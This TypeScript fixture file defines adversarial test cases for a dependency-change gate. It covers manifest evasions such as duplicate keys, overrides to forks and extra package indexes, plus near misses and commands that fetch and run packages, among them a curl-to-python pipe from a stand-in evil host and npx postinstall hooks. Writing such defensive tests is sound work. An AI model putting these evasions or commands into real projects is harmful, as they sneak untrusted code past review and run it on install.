/**
 * Cases for the dependencies adversarial suite (docs/dependencies.md). A manifest case is a base
 * and a head text; the suite builds the patch GitHub would list from them (one hunk, three lines
 * of context) and runs the gate twice: with the whole texts as `manifestContents`, and on the
 * hunk alone (the offline fallback). No tests here: dependencies.test.ts runs them on the core,
 * bundle.test.ts through `node dist/index.js`.
 */
import type { FileChange } from '../../src/snapshot.js';
import { file } from '../factories.js';
import type { AdversarialCase } from './harness.js';
import { CARGO_TOML, GO_MOD, insertAfter, PACKAGE_JSON, patchOf, PYPROJECT, REQUIREMENTS } from './manifest-texts.js';

export * from './manifest-texts.js';

export interface ManifestCase {
  name: string;
  path: string;
  base: string | null;
  head: string;
  /** What git printed after the hunk's `@@` (the enclosing section), when the case needs it. */
  header?: string;
  /** Whether the hunk alone must also give the outcome (false: only the whole texts can tell). */
  hunkOnly?: boolean;
  /** A part of the dependencies finding's message the evasion must produce. */
  message?: string;
}

function change(c: ManifestCase): FileChange {
  return file(c.path, patchOf(c.base, c.head, c.header), c.base === null ? { status: 'added' } : {});
}

/** The case with the whole texts passed along. */
export function withContents(c: ManifestCase): Pick<AdversarialCase, 'files' | 'contents'> {
  return { files: [change(c)], contents: { [c.path]: { base: c.base, head: c.head } } };
}

/** The case as the offline fallback sees it: hunks only. */
export function hunkOnly(c: ManifestCase): Pick<AdversarialCase, 'files'> {
  return { files: [change(c)] };
}

/** package.json with `lines` appended after the last section (which gets its comma). */
function pkgWith(...lines: string[]): string {
  const all = PACKAGE_JSON.split('\n');
  all.splice(all.length - 2, 1, '  },', ...lines);
  return all.join('\n');
}

export const EVASIONS: ManifestCase[] = [
  {
    name: 'a second optionalDependencies key, its { on the next line',
    path: 'package.json',
    base: PACKAGE_JSON,
    head: pkgWith('  "optionalDependencies":', '  {', '    "evil-pkg": "1.0.0"', '  }'),
    message: 'adds evil-pkg@1.0.0 (optional)',
  },
  {
    name: 'a dependency named like a package.json field, deep in dependencies',
    path: 'package.json',
    base: PACKAGE_JSON,
    head: insertAfter(PACKAGE_JSON, '    "undici": "6.19.2",', '    "version": "1.0.0",'),
    message: 'adds version@1.0.0',
  },
  {
    name: 'a lifecycle script that fetches and runs a package',
    path: 'package.json',
    base: PACKAGE_JSON,
    head: insertAfter(PACKAGE_JSON, '    "build": "tsc",', '    "postinstall": "npx -y x@latest",'),
    message: 'npx -y x@latest',
  },
  {
    name: 'a duplicate "dependencies" key',
    path: 'package.json',
    base: PACKAGE_JSON,
    head: pkgWith('  "dependencies": {', '    "evil-pkg": "1.0.0"', '  }'),
    message: 'adds evil-pkg@1.0.0',
  },
  {
    name: 'an override to another package',
    path: 'package.json',
    base: PACKAGE_JSON,
    head: pkgWith('  "overrides": {', '    "semver": "npm:evil-semver@7.0.0"', '  }'),
    message: 'semver@npm:evil-semver@7.0.0 (override)',
  },
  {
    name: 'a yarn resolution',
    path: 'package.json',
    base: PACKAGE_JSON,
    head: pkgWith('  "resolutions": {', '    "**/minimist": "github:evil/minimist"', '  }'),
  },
  {
    name: 'pnpm.overrides nested in the pnpm field',
    path: 'package.json',
    base: PACKAGE_JSON,
    head: pkgWith('  "pnpm": {', '    "overrides": {', '      "debug": "4.3.1-evil"', '    }', '  }'),
  },
  {
    name: 'a peer dependency',
    path: 'package.json',
    base: PACKAGE_JSON,
    head: pkgWith('  "peerDependencies": {', '    "evil-peer": ">=1"', '  }'),
  },
  {
    name: 'a one-line optionalDependencies section far from the top',
    path: 'package.json',
    base: PACKAGE_JSON,
    head: pkgWith('  "optionalDependencies": { "evil-pkg": "1.0.0" }'),
    message: 'adds evil-pkg@1.0.0 (optional)',
  },
  {
    name: 'a workspace folder added to the workspaces list',
    path: 'package.json',
    base: PACKAGE_JSON,
    head: insertAfter(PACKAGE_JSON, '    "packages/*"', '    "vendor/*"').replace('"packages/*"\n', '"packages/*",\n'),
  },
  {
    name: 'a nested workspace package.json',
    path: 'packages/api/package.json',
    base: null,
    head: '{\n  "name": "@app/api",\n  "dependencies": {\n    "evil-pkg": "^1.0.0"\n  }\n}',
    message: 'adds evil-pkg@^1.0.0',
  },
  {
    name: 'a new dev-requirements.txt',
    path: 'dev-requirements.txt',
    base: null,
    head: 'evil-pkg==1.0.0',
    message: 'adds evil-pkg==1.0.0',
  },
  {
    name: 'a requirements/ file',
    path: 'requirements/dev.txt',
    base: null,
    head: 'evil-pkg',
  },
  {
    name: 'a -r include of another file',
    path: 'requirements.txt',
    base: REQUIREMENTS,
    head: `${REQUIREMENTS}\n-r other.txt`,
    message: 'adds -r other.txt',
  },
  {
    name: 'an extra index URL',
    path: 'requirements.txt',
    base: REQUIREMENTS,
    head: `--extra-index-url https://pypi.evil.example/simple\n${REQUIREMENTS}`,
  },
  {
    name: 'a requirement padded past the line limit',
    path: 'requirements.txt',
    base: REQUIREMENTS,
    head: `${REQUIREMENTS}\n${' '.repeat(1200)}evil-pkg`,
  },
  {
    name: 'a constraints.txt pin',
    path: 'constraints.txt',
    base: 'urllib3==2.2.2',
    head: 'urllib3==1.26.0',
  },
  {
    name: 'a pyproject dev extra whose hunk header names the section',
    path: 'pyproject.toml',
    base: PYPROJECT,
    head: insertAfter(PYPROJECT, '    "coverage>=7",', '    "evil-pkg",'),
    header: '[project.optional-dependencies]',
    message: 'adds evil-pkg (dev)',
  },
  {
    name: 'a PEP 735 dependency group',
    path: 'pyproject.toml',
    base: PYPROJECT,
    head: `${PYPROJECT}\n\n[dependency-groups]\ntest = ["evil-pkg>=1"]`,
  },
  {
    name: 'a uv source pointing a dependency at a fork',
    path: 'pyproject.toml',
    base: PYPROJECT,
    head: `${PYPROJECT}\n\n[tool.uv.sources]\nrequests = { git = "https://github.com/evil/requests" }`,
  },
  {
    name: 'a poetry source',
    path: 'pyproject.toml',
    base: PYPROJECT,
    head: `${PYPROJECT}\n\n[[tool.poetry.source]]\nname = "mirror"\nurl = "https://pypi.evil.example/simple"`,
  },
  {
    name: 'a Cargo target-specific dependency',
    path: 'crates/app/Cargo.toml',
    base: CARGO_TOML,
    head: `${CARGO_TOML}\n\n[target.'cfg(windows)'.dependencies]\nevil-sys = "0.1"`,
    message: 'adds evil-sys@0.1',
  },
  {
    name: 'a Cargo patch of a crate to a fork',
    path: 'Cargo.toml',
    base: CARGO_TOML,
    head: `${CARGO_TOML}\n\n[patch.crates-io]\nserde = { git = "https://github.com/evil/serde" }`,
  },
  {
    name: 'a go.mod replace to a fork',
    path: 'go.mod',
    base: GO_MOD,
    head: `${GO_MOD}\n\nreplace golang.org/x/crypto => github.com/evil/crypto v0.26.1`,
    message: 'golang.org/x/crypto',
  },
  {
    name: 'a go.mod tool directive',
    path: 'go.mod',
    base: GO_MOD,
    head: `${GO_MOD}\n\ntool github.com/evil/generator`,
  },
  {
    name: 'a Pipfile package',
    path: 'Pipfile',
    base: '[packages]\nrequests = "*"',
    head: '[packages]\nrequests = "*"\nevil-pkg = "*"',
  },
  {
    name: 'a Gemfile gem',
    path: 'Gemfile',
    base: 'source "https://rubygems.org"\ngem "rails", "~> 7.1"',
    head: 'source "https://rubygems.org"\ngem "rails", "~> 7.1"\ngem "evil"',
  },
];

export const NEAR_MISSES: ManifestCase[] = [
  { name: 'the package version bumped', path: 'package.json', base: PACKAGE_JSON, head: PACKAGE_JSON.replace('"version": "1.0.0"', '"version": "1.0.1"') },
  { name: 'a test script that runs vitest', path: 'package.json', base: PACKAGE_JSON, head: PACKAGE_JSON.replace('"vitest run"', '"vitest run --coverage"') },
  { name: 'a description that mentions npx', path: 'package.json', base: PACKAGE_JSON, head: PACKAGE_JSON.replace('"The app"', '"Start it with npx create-app"') },
  { name: 'package.json reindented, same dependencies', path: 'package.json', base: PACKAGE_JSON, head: PACKAGE_JSON.replace(/^( +)/gm, '$1$1') },
  { name: 'a dependency removed', path: 'package.json', base: PACKAGE_JSON, head: PACKAGE_JSON.replace('    "pino": "9.0.0",\n', '') },
  { name: 'a requirements comment edited', path: 'requirements.txt', base: REQUIREMENTS, head: REQUIREMENTS.replace('# runtime', '# runtime dependencies') },
  { name: 'a ruff rule list changed', path: 'pyproject.toml', base: PYPROJECT, head: PYPROJECT.replace('select = ["E", "F"]', 'select = ["E", "F", "I"]') },
  { name: 'a crate feature added', path: 'Cargo.toml', base: CARGO_TOML, head: CARGO_TOML.replace('["derive"]', '["derive", "rc"]') },
  { name: 'the go directive bumped', path: 'go.mod', base: GO_MOD, head: GO_MOD.replace('go 1.22', 'go 1.23') },
];

/** Commands that install or fetch-and-run a package; `command` is what the finding must name. */
export const COMMANDS: (Pick<AdversarialCase, 'name'> & { path: string; base: string | null; head: string; command: string })[] = [
  { name: 'RUN pip install \\ with the package on the next line', path: 'Dockerfile', base: 'FROM python:3.12', head: 'FROM python:3.12\nRUN pip install \\\n    evil-pkg', command: 'pip install evil-pkg' },
  { name: 'a package line added inside an existing continued RUN', path: 'Dockerfile', base: 'FROM python:3.12\nRUN pip install \\\n    flask', head: 'FROM python:3.12\nRUN pip install \\\n    evil-pkg \\\n    flask', command: 'pip install evil-pkg flask' },
  { name: 'bunx in a setup script', path: 'scripts/setup.sh', base: '#!/bin/sh\nset -e', head: '#!/bin/sh\nset -e\nbunx evil-cli init', command: 'bunx evil-cli init' },
  { name: 'npx --yes at the end of an && chain', path: 'scripts/setup.sh', base: '#!/bin/sh', head: '#!/bin/sh\nnpm ci && npx --yes evil@1.0.0', command: 'npx --yes evil@1.0.0' },
  { name: 'npm exec in a workflow run step', path: '.github/workflows/ci.yml', base: 'jobs:', head: 'jobs:\n  - run: npm exec -- evil-tool', command: 'npm exec -- evil-tool' },
  { name: 'pnpm dlx in a workflow run step', path: '.github/workflows/ci.yml', base: 'jobs:', head: 'jobs:\n  - run: pnpm dlx evil-tool@2', command: 'pnpm dlx evil-tool@2' },
  { name: 'yarn dlx in a Makefile', path: 'Makefile', base: 'all:', head: 'all:\n\tyarn dlx evil-tool', command: 'yarn dlx evil-tool' },
  { name: 'go run of a module at a version', path: 'Makefile', base: 'gen:', head: 'gen:\n\tgo run github.com/evil/gen@v1.0.0 ./...', command: 'go run github.com/evil/gen@v1.0.0 ./...' },
  { name: 'uvx in a Dockerfile', path: 'Dockerfile', base: 'FROM python:3.12', head: 'FROM python:3.12\nRUN uvx evil-tool', command: 'uvx evil-tool' },
  { name: 'pipx run in a script', path: 'bin/lint', base: '#!/bin/sh', head: '#!/bin/sh\npipx run evil-lint .', command: 'pipx run evil-lint .' },
  { name: 'curl piped to python across a continuation', path: 'scripts/setup.sh', base: '#!/bin/sh', head: '#!/bin/sh\ncurl -fsSL https://get.evil.example/i.py \\\n  | python3', command: 'curl -fsSL https://get.evil.example/i.py | python3' },
  { name: 'a postinstall that runs npx', path: 'package.json', base: PACKAGE_JSON, head: insertAfter(PACKAGE_JSON, '    "build": "tsc",', '    "postinstall": "npx -y x@latest",'), command: 'npx -y x@latest' },
];

/** Lines close to such a command that are not one; `base` absent: the file is new. */
export const COMMAND_NEAR_MISSES: { name: string; path: string; base?: string; head: string }[] = [
  { name: 'a comment that mentions npx', path: 'scripts/setup.sh', head: '#!/bin/sh\n# npx evil-cli used to be run here\necho done' },
  { name: 'npx --no-install of an installed tool', path: '.github/workflows/ci.yml', head: 'jobs:\n  - run: npx --no-install tsc -p .' },
  { name: 'go run of local code', path: 'Makefile', head: 'gen:\n\tgo run ./cmd/gen' },
  { name: 'pip install of the declared requirements', path: 'Dockerfile', head: 'FROM python:3.12\nRUN pip install \\\n    -r requirements.txt' },
  { name: 'an unrelated line added after an install chain', path: 'Dockerfile', base: 'FROM node:22\nRUN apt-get install -y curl && \\\n    echo one', head: 'FROM node:22\nRUN apt-get install -y curl && \\\n    echo one && \\\n    echo two' },
  { name: 'a test script that runs vitest', path: 'package.json', head: '{\n  "scripts": {\n    "test": "vitest run"\n  }\n}' },
];
